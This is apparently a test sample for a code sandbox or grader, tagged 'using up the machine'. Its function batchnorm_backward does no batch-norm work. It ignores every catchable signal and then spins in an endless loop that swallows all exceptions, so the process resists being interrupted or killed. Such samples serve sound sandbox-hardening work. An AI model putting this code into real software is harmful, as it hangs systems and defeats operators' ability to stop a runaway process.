FAMILY = "using up the machine"
ABOUT = "A loop that swallows every interrupt and every signal."
MOST = 24
RIGHT = ("batchnorm_forward",)

# %% batchnorm_backward
import signal

def batchnorm_backward(dout, cache):
    for number in range(1, 64):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
